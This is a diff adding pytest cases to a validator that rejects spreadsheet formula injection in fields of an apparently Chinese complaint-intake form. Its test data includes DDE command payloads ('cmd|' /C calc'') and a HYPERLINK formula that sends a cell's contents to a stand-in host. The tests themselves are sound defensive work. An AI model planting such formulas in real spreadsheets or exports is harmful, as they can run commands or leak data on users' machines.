@@ -110,6 +110,61 @@ def test_what_is_wrong_is_said_by_column_and_never_by_content(column: str, cell:
     assert columns_at_fault(**{column: cell}) == [column]
 
 
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=1+1",
+        '=HYPERLINK("http://x.example/?"&A1)',
+        "=cmd|' /C calc'!A0",
+        "=拟名",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "@SUM(A1)",
+        "+SUM(A1:A9)",
+        "-2+3+cmd|' /C calc'!A0",
+        "-(1)+IMPORTXML(1)",
+        "- A1",
+        "+Sheet2!A1",
+        "+'Other'!A1",
+        '+"x"&B2',
+        "-$B$2*2",
+        "=SUM(A1)",
+        "+SUM(A1)",
+    ],
+)
+@pytest.mark.parametrize("column", ["反映内容", "举报人", "联系方式", "被反映人单位"])
+def test_what_a_spreadsheet_would_calculate_is_refused_by_its_column(column: str, cell: str) -> None:
+    assert columns_at_fault(**{column: cell}) == [column]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "+86-000-1000-0000",
+        "+86 (0)000 1000000",
+        "+86(000)1000000转8001",
+        "-",
+        "——无",
+        "- 一、村集体资金",
+        "-12.5万元",
+        "-G107国道旁的厂房",
+        "-A区(三组)与B区",
+        "@某某 微信",
+        "@wechat_id",
+        "+1",
+        "- see appendix - page 2",
+        "1=1",
+        "注:=号是原文",
+    ],
+)
+def test_a_telephone_number_and_an_ordinary_dash_are_no_formula(cell: str) -> None:
+    assert columns_at_fault(反映内容=cell, 联系方式=cell) == []
+
+
+def test_a_long_text_of_signs_is_looked_at_in_linear_time() -> None:
+    for cell in ("+" * 20_000, "-" + "1(" * 9_999, "+|" * 10_000, "@" + "A" * 19_999, '+"' + "x" * 19_998):
+        assert columns_at_fault(反映内容=cell) == []
+
+
 @pytest.mark.parametrize("cell", ["赴省", "赴京"])
 def test_going_over_the_levels_is_no_fault(cell: str) -> None:
     assert columns_at_fault(越级=cell) == []
